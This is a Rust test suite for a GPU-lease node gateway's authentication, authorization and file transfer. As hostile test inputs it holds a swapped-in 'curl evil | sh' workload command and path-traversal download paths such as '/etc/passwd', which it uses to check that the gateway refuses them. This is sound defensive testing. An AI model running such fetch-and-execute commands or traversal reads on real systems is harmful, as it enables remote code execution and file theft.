//! The gateway's authentication and authorization, over real HTTP against an in-memory
//! backend: every refusal carries the right status and typed code, and no refused manifest
//! ever reaches the launcher.

#![allow(clippy::unwrap_used, clippy::expect_used, missing_docs)]

use alloy::primitives::{Address, B256};
use alloy::signers::local::PrivateKeySigner;
use async_trait::async_trait;
use futures::StreamExt;
use serde_json::Value;
use spheron_core::{GpuModel, Inventory, LogLine, LogSource, LogStream, Workload};
use spheron_gpu::CpuProver;
use spheron_node::auth::{self, MAX_EXPIRY_SECS, SignedManifest};
use spheron_node::gateway::{self, ChainLease, LeaseBackend, MAX_BODY_BYTES};
use spheron_node::gateway_client::GatewayClient;
use spheron_node::{ErrorCode, GatewayError, LeaseStatus, NodeStatus, WorkState};
use std::collections::{HashMap, HashSet};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, SystemTime, UNIX_EPOCH};

const CHAIN: u64 = 31337;

fn key(b: u8) -> PrivateKeySigner {
    PrivateKeySigner::from_bytes(&B256::repeat_byte(b)).unwrap()
}
fn tenant() -> PrivateKeySigner {
    key(0x11)
}
fn stranger() -> PrivateKeySigner {
    key(0x22)
}
fn market() -> Address {
    Address::repeat_byte(0x4d)
}
fn provider() -> Address {
    Address::repeat_byte(0x50)
}
fn other_provider() -> Address {
    Address::repeat_byte(0x51)
}
fn now() -> u64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .unwrap()
        .as_secs()
}

fn log_lines() -> Vec<LogLine> {
    (0..5)
        .map(|i| LogLine {
            seq: i,
            source: if i % 2 == 0 {
                LogSource::Stdout
            } else {
                LogSource::Stderr
            },
            line: format!("line {i} with \"quotes\" and \\ and ünïcode"),
        })
        .collect()
}

/// Leases: 1 active for P with tenant T, 2 active for another provider, 3 closed for P.
struct Memory {
    leases: HashMap<u64, ChainLease>,
    nonces: Mutex<HashSet<(Address, B256)>>,
    launched: Mutex<HashMap<u64, Workload>>,
    /// Calls of `launch`: the gateway's checks passed.
    launch_calls: AtomicUsize,
    /// Launches accepted.
    launches: AtomicUsize,
    /// Where uploaded working directories go.
    uploads: tempfile::TempDir,
    /// Working directories "launched" workloads run in (their archive unpacked).
    workdirs: Mutex<HashMap<u64, std::path::PathBuf>>,
}

impl Memory {
    fn new() -> Self {
        let t = tenant().address();
        let leases = [
            (1, provider(), true),
            (2, other_provider(), true),
            (3, provider(), false),
        ]
        .into_iter()
        .map(|(lease, provider, active)| {
            (
                lease,
                ChainLease {
                    lease,
                    tenant: t,
                    provider,
                    active,
                },
            )
        })
        .collect();
        Memory {
            leases,
            nonces: Mutex::default(),
            launched: Mutex::default(),
            launch_calls: AtomicUsize::new(0),
            launches: AtomicUsize::new(0),
            uploads: tempfile::tempdir().unwrap(),
            workdirs: Mutex::default(),
        }
    }

    fn lease_status(&self, l: &ChainLease, work: WorkState) -> LeaseStatus {
        LeaseStatus {
            lease: l.lease,
            tenant: l.tenant,
            work,
            open_on_chain: l.active,
            started_at: None,
            ended_at: None,
            activity: None,
        }
    }
}

#[async_trait]
impl LeaseBackend for Memory {
    fn provider(&self) -> Address {
        provider()
    }
    fn chain(&self) -> (u64, Address) {
        (CHAIN, market())
    }
    fn now(&self) -> u64 {
        now()
    }
    async fn chain_lease(&self, lease: u64) -> Result<Option<ChainLease>, GatewayError> {
        Ok(self.leases.get(&lease).cloned())
    }
    async fn quote(
        &self,
        request: spheron_core::GpuRequest,
    ) -> Result<Option<spheron_node::wire::QuotedBid>, GatewayError> {
        // One H100 SXM machine of 8 at 2.50 (6 decimals), bidding its list price.
        let price = 2_500_000u128;
        Ok((request.accepts_model(GpuModel::H100Sxm)
            && request.count <= 8
            && request.max_price_per_gpu_hour.0 >= price)
            .then(|| spheron_node::wire::QuotedBid {
                model: GpuModel::H100Sxm,
                price_per_gpu_hour: price.to_string(),
                free_gpus: 8,
            }))
    }
    async fn use_nonce(
        &self,
        signer: Address,
        nonce: B256,
        _expiry: u64,
    ) -> Result<bool, GatewayError> {
        Ok(self.nonces.lock().unwrap().insert((signer, nonce)))
    }
    async fn launch(
        &self,
        lease: &ChainLease,
        workload: Workload,
    ) -> Result<LeaseStatus, GatewayError> {
        self.launch_calls.fetch_add(1, Ordering::SeqCst);
        let mut launched = self.launched.lock().unwrap();
        if launched.contains_key(&lease.lease) {
            return Err(GatewayError::new(
                ErrorCode::AlreadyLaunched,
                "a manifest was already accepted",
            ));
        }
        if let Some(archive) = workload.workdir.as_ref().and_then(|w| w.source.clone()) {
            // What a launcher does: unpack it as the working directory; the workload writes
            // an output.
            let dir = self.uploads.path().join(format!("run-{}", lease.lease));
            spheron_node::workdir::unpack(std::fs::File::open(archive).unwrap(), &dir).unwrap();
            std::fs::create_dir_all(dir.join("outputs")).unwrap();
            std::fs::write(dir.join("outputs/model.ckpt"), [9u8; 70_000]).unwrap();
            self.workdirs.lock().unwrap().insert(lease.lease, dir);
        }
        launched.insert(lease.lease, workload);
        self.launches.fetch_add(1, Ordering::SeqCst);
        Ok(self.lease_status(lease, WorkState::Launching))
    }
    async fn status(&self, lease: &ChainLease) -> Result<LeaseStatus, GatewayError> {
        let work = if self.launched.lock().unwrap().contains_key(&lease.lease) {
            WorkState::Running
        } else {
            WorkState::AwaitingManifest
        };
        Ok(self.lease_status(lease, work))
    }
    async fn logs(
        &self,
        _lease: &ChainLease,
        from: u64,
        follow: bool,
    ) -> Result<LogStream, GatewayError> {
        let lines: Vec<LogLine> = log_lines().into_iter().filter(|l| l.seq >= from).collect();
        if follow {
            // Lines trickle in, as from a running workload, then the log ends.
            Ok(futures::stream::iter(lines)
                .then(|l| async move {
                    tokio::time::sleep(Duration::from_millis(20)).await;
                    l
                })
                .boxed())
        } else {
            Ok(futures::stream::iter(lines).boxed())
        }
    }
    async fn stop(&self, lease: &ChainLease) -> Result<LeaseStatus, GatewayError> {
        Ok(self.lease_status(lease, WorkState::Stopped))
    }
    fn upload_dir(&self) -> Option<std::path::PathBuf> {
        Some(self.uploads.path().join("archives"))
    }
    async fn lease_dir(&self, lease: &ChainLease) -> Option<std::path::PathBuf> {
        self.workdirs.lock().unwrap().get(&lease.lease).cloned()
    }
    async fn node_status(&self) -> NodeStatus {
        NodeStatus {
            provider: provider(),
            name: "memory".into(),
            region: "test".into(),
            models: vec![GpuModel::L4],
            inventory: Inventory::default(),
            running_leases: self.launched.lock().unwrap().len(),
            last_block: 42,
            version: "test".into(),
        }
    }
}

struct Node {
    url: String,
    backend: Arc<Memory>,
    http: reqwest::Client,
}

impl Node {
    async fn start() -> Self {
        let backend = Arc::new(Memory::new());
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        let router = gateway::router(backend.clone(), Arc::new(CpuProver::new(None)));
        tokio::spawn(gateway::serve(listener, router));
        Node {
            url,
            backend,
            http: reqwest::Client::builder().no_proxy().build().unwrap(),
        }
    }

    fn client(&self, signer: PrivateKeySigner) -> GatewayClient {
        GatewayClient::new(&self.url, signer, CHAIN, market()).unwrap()
    }

    fn launch_calls(&self) -> usize {
        self.backend.launch_calls.load(Ordering::SeqCst)
    }

    fn launches(&self) -> usize {
        self.backend.launches.load(Ordering::SeqCst)
    }

    /// Sends `method url_path` with `send_body`, carrying `headers` (if any).
    async fn send(
        &self,
        method: &str,
        url_path: &str,
        send_body: &[u8],
        headers: Option<&auth::SignedHeaders>,
    ) -> (u16, Value) {
        let mut rb = self
            .http
            .request(method.parse().unwrap(), format!("{}{url_path}", self.url));
        if let Some(h) = headers {
            for (k, v) in h.pairs() {
                rb = rb.header(k, v);
            }
        }
        if !send_body.is_empty() {
            rb = rb.body(send_body.to_vec());
        }
        let resp = rb.send().await.unwrap();
        let status = resp.status().as_u16();
        let text = resp.text().await.unwrap();
        let v = serde_json::from_str(&text).unwrap_or_else(|e| {
            panic!("answer to {method} {url_path} is not JSON ({e}): {text:?}")
        });
        (status, v)
    }
}

async fn sign(
    signer: &PrivateKeySigner,
    method: &str,
    path: &str,
    lease: u64,
    body: &[u8],
    expiry: u64,
) -> auth::SignedHeaders {
    auth::sign_request(
        signer,
        &auth::domain(CHAIN, market()),
        method,
        path,
        lease,
        body,
        expiry,
    )
    .await
    .unwrap()
}

/// Sends a request signed over exactly what is sent.
async fn signed(
    node: &Node,
    signer: &PrivateKeySigner,
    method: &str,
    path: &str,
    lease: u64,
    body: &[u8],
) -> (u16, Value) {
    let h = sign(signer, method, path, lease, body, now() + 60).await;
    node.send(method, path, body, Some(&h)).await
}

fn workload() -> Workload {
    Workload::command(["python", "train.py"]).env("EPOCHS", "3")
}

async fn manifest(signer: &PrivateKeySigner, lease: u64, provider: Address) -> Vec<u8> {
    let m = auth::sign_manifest(
        signer,
        CHAIN,
        market(),
        lease,
        provider,
        &workload(),
        now() + 60,
    )
    .await
    .unwrap();
    serde_json::to_vec(&m).unwrap()
}

#[track_caller]
fn refused(answer: (u16, Value), status: u16, code: &str) {
    assert_eq!(answer.0, status, "{}", answer.1);
    assert_eq!(answer.1["error"], code, "{}", answer.1);
    assert!(answer.1["message"].is_string(), "{}", answer.1);
}

#[track_caller]
fn refused_client<T: std::fmt::Debug>(r: Result<T, GatewayError>, code: ErrorCode) {
    let e = r.expect_err("expected a refusal");
    assert_eq!(e.error, code, "{e}");
}

#[tokio::test]
async fn unsigned_requests_are_refused() {
    let node = Node::start().await;
    refused(
        node.send("GET", "/lease/1/status", b"", None).await,
        401,
        "unsigned",
    );
    let body = manifest(&tenant(), 1, provider()).await;
    refused(
        node.send("PUT", "/lease/1/manifest", &body, None).await,
        401,
        "unsigned",
    );
    refused(
        node.send("POST", "/lease/1/stop", b"", None).await,
        401,
        "unsigned",
    );
    // Only some of the headers.
    let mut h = sign(&tenant(), "GET", "/lease/1/status", 1, b"", now() + 60).await;
    h.signature = String::new();
    let mut rb = node.http.get(format!("{}/lease/1/status", node.url));
    for (k, v) in h.pairs().into_iter().take(3) {
        rb = rb.header(k, v);
    }
    let resp = rb.send().await.unwrap();
    assert_eq!(resp.status(), 401);
    let v: Value = resp.json().await.unwrap();
    assert_eq!(v["error"], "unsigned");
    assert_eq!(node.launch_calls(), 0);
}

#[tokio::test]
async fn a_key_that_is_not_the_tenant_is_refused() {
    let node = Node::start().await;
    let client = node.client(stranger());
    refused_client(client.status(1).await, ErrorCode::WrongTenant);
    refused_client(client.stop(1).await, ErrorCode::WrongTenant);
    refused_client(
        client.send_manifest(1, provider(), &workload(), 60).await,
        ErrorCode::WrongTenant,
    );
    let lines: Vec<_> = client.logs(1, 0, false).collect().await;
    assert_eq!(lines.len(), 1);
    refused_client(lines.into_iter().next().unwrap(), ErrorCode::WrongTenant);
    // The tenant signs the request, but the manifest inside is a stranger's.
    let body = manifest(&stranger(), 1, provider()).await;
    refused(
        signed(&node, &tenant(), "PUT", "/lease/1/manifest", 1, &body).await,
        403,
        "wrong_tenant",
    );
    // Over raw HTTP too: status and typed code.
    refused(
        signed(&node, &stranger(), "GET", "/lease/1/status", 1, b"").await,
        403,
        "wrong_tenant",
    );
    assert_eq!(node.launch_calls(), 0);
    // A stranger's refused requests do not touch the nonce store.
    let nonces = node.backend.nonces.lock().unwrap();
    assert!(nonces.iter().all(|(who, _)| *who != stranger().address()));
    assert_eq!(nonces.len(), 1, "only the tenant's request nonce");
}

#[tokio::test]
async fn expired_and_far_future_signatures_are_refused() {
    let node = Node::start().await;
    let t = tenant();
    let body = manifest(&t, 1, provider()).await;
    for expiry in [now() - 10, now() + MAX_EXPIRY_SECS + 60] {
        let h = sign(&t, "GET", "/lease/1/status", 1, b"", expiry).await;
        refused(
            node.send("GET", "/lease/1/status", b"", Some(&h)).await,
            401,
            "expired",
        );
        let h = sign(&t, "PUT", "/lease/1/manifest", 1, &body, expiry).await;
        refused(
            node.send("PUT", "/lease/1/manifest", &body, Some(&h)).await,
            401,
            "expired",
        );
    }
    // The manifest's own expiry: too far ahead, and expired.
    let client = node.client(t.clone());
    refused_client(
        client
            .send_manifest(1, provider(), &workload(), MAX_EXPIRY_SECS + 60)
            .await,
        ErrorCode::Expired,
    );
    let old = auth::sign_manifest(&t, CHAIN, market(), 1, provider(), &workload(), now() - 5)
        .await
        .unwrap();
    let old = serde_json::to_vec(&old).unwrap();
    refused(
        signed(&node, &t, "PUT", "/lease/1/manifest", 1, &old).await,
        401,
        "expired",
    );
    assert_eq!(node.launch_calls(), 0);
    // Still launchable with a fresh one.
    client
        .send_manifest(1, provider(), &workload(), 60)
        .await
        .unwrap();
    assert_eq!(node.launches(), 1);
}

#[tokio::test]
async fn an_exact_replay_is_refused() {
    let node = Node::start().await;
    let t = tenant();
    let h = sign(&t, "GET", "/lease/1/status", 1, b"", now() + 60).await;
    let first = node.send("GET", "/lease/1/status", b"", Some(&h)).await;
    assert_eq!(first.0, 200, "{}", first.1);
    assert_eq!(first.1["work"]["state"], "awaiting_manifest");
    refused(
        node.send("GET", "/lease/1/status", b"", Some(&h)).await,
        401,
        "replayed",
    );

    // A replayed manifest request launches nothing more.
    let body = manifest(&t, 1, provider()).await;
    let h = sign(&t, "PUT", "/lease/1/manifest", 1, &body, now() + 60).await;
    let first = node.send("PUT", "/lease/1/manifest", &body, Some(&h)).await;
    assert_eq!(first.0, 200, "{}", first.1);
    refused(
        node.send("PUT", "/lease/1/manifest", &body, Some(&h)).await,
        401,
        "replayed",
    );
    // The same manifest in a freshly signed request: its own nonce is spent.
    refused(
        signed(&node, &t, "PUT", "/lease/1/manifest", 1, &body).await,
        401,
        "replayed",
    );
    assert_eq!(node.launch_calls(), 1);
    assert_eq!(node.launches(), 1);
}

#[tokio::test]
async fn tampering_after_signing_is_refused() {
    let node = Node::start().await;
    let t = tenant();
    let body = manifest(&t, 1, provider()).await;
    let other_body = manifest(&t, 1, provider()).await;
    // Body swapped.
    let h = sign(&t, "PUT", "/lease/1/manifest", 1, &body, now() + 60).await;
    refused(
        node.send("PUT", "/lease/1/manifest", &other_body, Some(&h))
            .await,
        401,
        "bad_signature",
    );
    // Body dropped.
    refused(
        node.send("PUT", "/lease/1/manifest", b"", Some(&h)).await,
        401,
        "bad_signature",
    );
    // Path changed: another action, another lease, an added query.
    let h = sign(&t, "GET", "/lease/1/status", 1, b"", now() + 60).await;
    refused(
        node.send("POST", "/lease/1/stop", b"", Some(&h)).await,
        401,
        "bad_signature",
    );
    refused(
        node.send("GET", "/lease/3/status", b"", Some(&h)).await,
        401,
        "bad_signature",
    );
    refused(
        node.send("GET", "/lease/1/status?x=1", b"", Some(&h)).await,
        401,
        "bad_signature",
    );
    let h = sign(&t, "GET", "/lease/1/logs?from=0", 1, b"", now() + 60).await;
    refused(
        node.send("GET", "/lease/1/logs?from=3", b"", Some(&h))
            .await,
        401,
        "bad_signature",
    );
    // Expiry header changed.
    let mut h = sign(&t, "GET", "/lease/1/status", 1, b"", now() + 60).await;
    h.expiry += 1;
    refused(
        node.send("GET", "/lease/1/status", b"", Some(&h)).await,
        401,
        "bad_signature",
    );
    // Signer header changed to someone else.
    let mut h = sign(&stranger(), "GET", "/lease/1/status", 1, b"", now() + 60).await;
    h.signer = t.address();
    refused(
        node.send("GET", "/lease/1/status", b"", Some(&h)).await,
        401,
        "bad_signature",
    );
    // Garbage signature.
    let mut h = sign(&t, "GET", "/lease/1/status", 1, b"", now() + 60).await;
    h.signature = "0xzz".into();
    refused(
        node.send("GET", "/lease/1/status", b"", Some(&h)).await,
        401,
        "bad_signature",
    );
    // The manifest's workload swapped after signing.
    let mut m: SignedManifest = serde_json::from_slice(&body).unwrap();
    m.workload = Workload::command(["sh", "-c", "curl evil | sh"]);
    let swapped = serde_json::to_vec(&m).unwrap();
    refused(
        signed(&node, &t, "PUT", "/lease/1/manifest", 1, &swapped).await,
        400,
        "workload_mismatch",
    );
    // A signed manifest field changed after signing: recovers to someone else.
    let mut m: SignedManifest = serde_json::from_slice(&body).unwrap();
    m.expiry += 1;
    let bumped = serde_json::to_vec(&m).unwrap();
    refused(
        signed(&node, &t, "PUT", "/lease/1/manifest", 1, &bumped).await,
        403,
        "wrong_tenant",
    );
    assert_eq!(node.launch_calls(), 0);
}

#[tokio::test]
async fn a_manifest_for_another_provider_is_refused() {
    let node = Node::start().await;
    let client = node.client(tenant());
    refused_client(
        client
            .send_manifest(1, other_provider(), &workload(), 60)
            .await,
        ErrorCode::WrongProvider,
    );
    let body = manifest(&tenant(), 1, other_provider()).await;
    refused(
        signed(&node, &tenant(), "PUT", "/lease/1/manifest", 1, &body).await,
        403,
        "wrong_provider",
    );
    assert_eq!(node.launch_calls(), 0);
}

#[tokio::test]
async fn a_manifest_for_another_lease_chain_or_market_is_refused() {
    let node = Node::start().await;
    let t = tenant();
    // Signed for lease 3 (the same tenant's), sent for lease 1.
    let body = manifest(&t, 3, provider()).await;
    refused(
        signed(&node, &t, "PUT", "/lease/1/manifest", 1, &body).await,
        403,
        "wrong_lease",
    );
    // Another chain, another market.
    for (chain, mkt) in [(1, market()), (CHAIN, Address::repeat_byte(0x99))] {
        let m = auth::sign_manifest(&t, chain, mkt, 1, provider(), &workload(), now() + 60)
            .await
            .unwrap();
        let body = serde_json::to_vec(&m).unwrap();
        refused(
            signed(&node, &t, "PUT", "/lease/1/manifest", 1, &body).await,
            403,
            "wrong_lease",
        );
    }
    // A request signed for another chain does not even verify.
    let other = GatewayClient::new(&node.url, t, 1, market()).unwrap();
    refused_client(other.status(1).await, ErrorCode::BadSignature);
    assert_eq!(node.launch_calls(), 0);
}

#[tokio::test]
async fn a_manifest_for_a_closed_lease_is_refused() {
    let node = Node::start().await;
    let client = node.client(tenant());
    refused_client(
        client.send_manifest(3, provider(), &workload(), 60).await,
        ErrorCode::LeaseNotActive,
    );
    let body = manifest(&tenant(), 3, provider()).await;
    refused(
        signed(&node, &tenant(), "PUT", "/lease/3/manifest", 3, &body).await,
        409,
        "lease_not_active",
    );
    // Its status (and logs) stay readable by the tenant.
    let s = client.status(3).await.unwrap();
    assert!(!s.open_on_chain);
    assert_eq!(node.launch_calls(), 0);
}

#[tokio::test]
async fn a_lease_of_another_provider_or_none_is_unknown() {
    let node = Node::start().await;
    let client = node.client(tenant());
    refused_client(client.status(2).await, ErrorCode::UnknownLease);
    refused_client(client.status(99).await, ErrorCode::UnknownLease);
    refused_client(
        client.send_manifest(2, provider(), &workload(), 60).await,
        ErrorCode::UnknownLease,
    );
    let body = manifest(&tenant(), 2, other_provider()).await;
    refused(
        signed(&node, &tenant(), "PUT", "/lease/2/manifest", 2, &body).await,
        404,
        "unknown_lease",
    );
    refused(
        signed(&node, &tenant(), "GET", "/lease/99/status", 99, b"").await,
        404,
        "unknown_lease",
    );
    assert_eq!(node.launch_calls(), 0);
}

#[tokio::test]
async fn a_valid_manifest_launches_exactly_once() {
    let node = Node::start().await;
    let client = node.client(tenant());
    assert_eq!(
        client.status(1).await.unwrap().work,
        WorkState::AwaitingManifest
    );
    let s = client
        .send_manifest(1, provider(), &workload(), 60)
        .await
        .unwrap();
    assert_eq!(s.lease, 1);
    assert_eq!(s.tenant, tenant().address());
    assert_eq!(s.work, WorkState::Launching);
    assert_eq!(node.launches(), 1);
    assert_eq!(
        node.backend.launched.lock().unwrap().get(&1),
        Some(&workload())
    );
    refused_client(
        client.send_manifest(1, provider(), &workload(), 60).await,
        ErrorCode::AlreadyLaunched,
    );
    let body = manifest(&tenant(), 1, provider()).await;
    refused(
        signed(&node, &tenant(), "PUT", "/lease/1/manifest", 1, &body).await,
        409,
        "already_launched",
    );
    assert_eq!(node.launches(), 1);
    assert_eq!(client.status(1).await.unwrap().work, WorkState::Running);
    assert_eq!(client.stop(1).await.unwrap().work, WorkState::Stopped);
}

#[tokio::test]
async fn logs_stream_as_ndjson() {
    let node = Node::start().await;
    let client = node.client(tenant());
    let all: Vec<LogLine> = client.logs(1, 0, false).map(|l| l.unwrap()).collect().await;
    assert_eq!(all, log_lines());
    let tail: Vec<LogLine> = client.logs(1, 3, true).map(|l| l.unwrap()).collect().await;
    assert_eq!(tail, log_lines()[3..].to_vec());
    // The raw answer: one JSON object per line, NDJSON content type.
    let path = "/lease/1/logs?from=1&follow=true";
    let h = sign(&tenant(), "GET", path, 1, b"", now() + 60).await;
    let mut rb = node.http.get(format!("{}{path}", node.url));
    for (k, v) in h.pairs() {
        rb = rb.header(k, v);
    }
    let resp = rb.send().await.unwrap();
    assert_eq!(resp.status(), 200);
    assert_eq!(
        resp.headers()["content-type"],
        gateway::NDJSON,
        "{:?}",
        resp.headers()
    );
    let text = resp.text().await.unwrap();
    let parsed: Vec<LogLine> = text
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(parsed, log_lines()[1..].to_vec());
    // A bad query is a typed refusal.
    refused(
        signed(&node, &tenant(), "GET", "/lease/1/logs?from=minus", 1, b"").await,
        400,
        "bad_request",
    );
}

#[tokio::test]
async fn status_and_proof_routes_need_no_signature() {
    let node = Node::start().await;
    let client = node.client(stranger());
    let s = client.node_status().await.unwrap();
    assert_eq!(s.provider, provider());
    assert_eq!(s.last_block, 42);
    let (status, v) = node.send("GET", "/status", b"", None).await;
    assert_eq!(status, 200);
    assert_eq!(v["name"], "memory");
    client.prover().ping().await.unwrap();
}

#[tokio::test]
async fn quotes_need_no_signature_and_bad_bodies_are_typed() {
    let node = Node::start().await;
    let client = node.client(stranger());
    let req = |gpu: &str, price: u128| {
        spheron_core::GpuRequest::builder()
            .gpu(gpu)
            .hours(1)
            .max_price_per_gpu_hour(spheron_core::Amount(price))
            .build()
            .unwrap()
    };
    let q = client.quote(&req("h100", 3_000_000)).await.unwrap();
    assert_eq!(q.provider, provider());
    let bid = q.bid.unwrap();
    assert_eq!(
        (bid.model, bid.price_per_gpu_hour.as_str()),
        (GpuModel::H100Sxm, "2500000")
    );
    // Below its price, or another model: no bid (not an error).
    assert_eq!(
        client.quote(&req("h100", 2_000_000)).await.unwrap().bid,
        None
    );
    assert_eq!(
        client.quote(&req("rtx4090", 3_000_000)).await.unwrap().bid,
        None
    );
    refused(
        node.send("POST", "/quote", b"{not json", None).await,
        400,
        "bad_request",
    );
    refused(
        node.send("POST", "/quote", b"{\"count\": 1}", None).await,
        400,
        "bad_request",
    );
    refused(
        node.send("GET", "/quote", b"", None).await,
        400,
        "bad_request",
    );
    let huge = vec![b' '; 16 * 1024 + 1];
    refused(
        node.send("POST", "/quote", &huge, None).await,
        413,
        "too_large",
    );
    assert_eq!(node.launch_calls(), 0);
}

#[tokio::test]
async fn malformed_requests_get_typed_json() {
    let node = Node::start().await;
    let t = tenant();
    refused(
        signed(&node, &t, "PUT", "/lease/1/manifest", 1, b"{not json").await,
        400,
        "bad_request",
    );
    refused(
        signed(&node, &t, "PUT", "/lease/1/manifest", 1, b"{\"lease\": 1}").await,
        400,
        "bad_request",
    );
    for path in [
        "/lease/abc/status",
        "/lease/-1/status",
        "/lease/+1/status",
        "/lease/99999999999999999999999/status",
    ] {
        refused(node.send("GET", path, b"", None).await, 400, "bad_request");
    }
    refused(
        node.send("GET", "/nowhere", b"", None).await,
        400,
        "bad_request",
    );
    refused(
        node.send("DELETE", "/lease/1/status", b"", None).await,
        400,
        "bad_request",
    );
    let huge = vec![b' '; MAX_BODY_BYTES + 1];
    refused(
        signed(&node, &t, "PUT", "/lease/1/manifest", 1, &huge).await,
        413,
        "too_large",
    );
    assert_eq!(node.launch_calls(), 0);
}

#[tokio::test]
async fn the_client_decodes_foreign_errors_and_transport_failures() {
    // Nothing listens here.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    drop(listener);
    let client = GatewayClient::new(&url, tenant(), CHAIN, market()).unwrap();
    refused_client(client.status(1).await, ErrorCode::Unavailable);
    refused_client(client.node_status().await, ErrorCode::Unavailable);
    for bad in ["ftp://x", "http://", "http://host/prefix", "localhost:80"] {
        assert!(
            GatewayClient::new(bad, tenant(), CHAIN, market()).is_err(),
            "{bad}"
        );
    }
    assert!(GatewayClient::new("http://host:1/", tenant(), CHAIN, market()).is_ok());

    // A server that answers in plain text, and one that redirects.
    let app = axum::Router::new()
        .route(
            "/status",
            axum::routing::get(|| async { (axum::http::StatusCode::BAD_GATEWAY, "upstream down") }),
        )
        .route(
            "/lease/{id}/status",
            axum::routing::get(|| async {
                (
                    axum::http::StatusCode::FOUND,
                    [("location", "http://example.invalid/")],
                )
            }),
        );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, app).await });
    let client = GatewayClient::new(&url, tenant(), CHAIN, market()).unwrap();
    let e = client.node_status().await.unwrap_err();
    assert_eq!(e.error, ErrorCode::Unavailable);
    assert!(e.message.contains("upstream down"), "{e}");
    let e = client.status(1).await.unwrap_err();
    assert_eq!(e.error, ErrorCode::Internal, "{e}");
    assert!(e.message.contains("302"), "{e}");
}

#[tokio::test]
async fn a_workdir_is_uploaded_hashed_into_the_manifest_and_outputs_downloaded() {
    let node = Node::start().await;
    let client = node.client(tenant());
    let src = tempfile::tempdir().unwrap();
    std::fs::write(src.path().join("train.py"), "print('train')\n").unwrap();
    std::fs::create_dir_all(src.path().join(".git")).unwrap();
    std::fs::write(src.path().join(".git/HEAD"), "x").unwrap();
    let w = Workload::command(["python3", "train.py"]).workdir(src.path());
    client.send_manifest(1, provider(), &w, 60).await.unwrap();
    let launched = node.backend.launched.lock().unwrap()[&1].clone();
    let sent = launched.workdir.expect("the workdir reached the launch");
    let packed = spheron_node::workdir::pack(src.path(), 1 << 20).unwrap();
    assert_eq!(sent.hash, Some(format!("{:#x}", packed.hash)));
    assert_eq!(sent.bytes, packed.archive.len() as u64);
    let run = node.backend.workdirs.lock().unwrap()[&1].clone();
    assert!(run.join("train.py").is_file() && !run.join(".git").exists());
    // The archive stays until the workload ends (a launch may unpack it in the background;
    // the provider node removes it when the lease's workload finishes).
    assert_eq!(
        std::fs::read_dir(node.backend.uploads.path().join("archives"))
            .unwrap()
            .count(),
        1
    );

    let out = tempfile::tempdir().unwrap();
    let dest = out.path().join("model.ckpt");
    assert_eq!(
        client
            .download(1, "outputs/model.ckpt", &dest)
            .await
            .unwrap(),
        70_000
    );
    assert_eq!(std::fs::read(&dest).unwrap(), [9u8; 70_000]);
    for bad in [
        "../archives",
        "/etc/passwd",
        "outputs/missing",
        "outputs",
        "a b/c?d=&e",
    ] {
        refused_client(client.download(1, bad, &dest).await, ErrorCode::NoSuchFile);
    }
    // Only the tenant downloads; nothing after the manifest is uploaded.
    refused_client(
        node.client(stranger())
            .download(1, "outputs/model.ckpt", &dest)
            .await,
        ErrorCode::WrongTenant,
    );
    refused_client(
        client.upload_workdir(1, packed.archive.clone()).await,
        ErrorCode::AlreadyLaunched,
    );
    refused_client(
        client.upload_workdir(3, packed.archive).await,
        ErrorCode::LeaseNotActive,
    );
}

#[tokio::test]
async fn an_unchanged_file_is_not_sent_again() {
    let node = Node::start().await;
    let client = node.client(tenant());
    let src = tempfile::tempdir().unwrap();
    std::fs::write(src.path().join("train.py"), "print('train')\n").unwrap();
    let w = Workload::command(["python3", "train.py"]).workdir(src.path());
    client.send_manifest(1, provider(), &w, 60).await.unwrap();
    let run = node.backend.workdirs.lock().unwrap()[&1].clone();
    let out = tempfile::tempdir().unwrap();
    let dest = out.path().join("ckpt");
    let (n, tag) = client
        .download_if_changed(1, "outputs/model.ckpt", &dest, None)
        .await
        .unwrap()
        .expect("a first download sends the file");
    assert_eq!(n, 70_000);
    let tag = tag.expect("the gateway tags the file");
    std::fs::remove_file(&dest).unwrap();
    // Same tag: nothing is sent or written.
    assert_eq!(
        client
            .download_if_changed(1, "outputs/model.ckpt", &dest, Some(&tag))
            .await
            .unwrap(),
        None
    );
    assert!(!dest.exists());
    // Replaced the way a checkpoint is (a new file renamed over it): sent again.
    let tmp = run.join("outputs/model.ckpt.tmp");
    std::fs::write(&tmp, [1u8; 10]).unwrap();
    std::fs::rename(&tmp, run.join("outputs/model.ckpt")).unwrap();
    let (n, again) = client
        .download_if_changed(1, "outputs/model.ckpt", &dest, Some(&tag))
        .await
        .unwrap()
        .expect("a changed file is sent");
    assert_eq!(n, 10);
    assert_ne!(again, Some(tag));
    assert_eq!(std::fs::read(&dest).unwrap(), [1u8; 10]);
}

#[tokio::test]
async fn a_manifest_naming_another_workdir_or_none_uploaded_is_refused() {
    let node = Node::start().await;
    let client = node.client(tenant());
    let src = tempfile::tempdir().unwrap();
    std::fs::write(src.path().join("a"), "one").unwrap();
    let mut w = Workload::command(["true"]);
    w.workdir = Some(spheron_core::Workdir {
        source: None,
        hash: Some(format!("{:#x}", B256::repeat_byte(1))),
        bytes: 10,
    });
    let e = client
        .send_manifest(1, provider(), &w, 60)
        .await
        .unwrap_err();
    assert_eq!(e.error, ErrorCode::BadRequest, "{e}");
    let other = spheron_node::workdir::pack(src.path(), 1 << 20).unwrap();
    client.upload_workdir(1, other.archive).await.unwrap();
    refused_client(
        client.send_manifest(1, provider(), &w, 60).await,
        ErrorCode::WorkloadMismatch,
    );
    assert_eq!(node.launches(), 0);
}
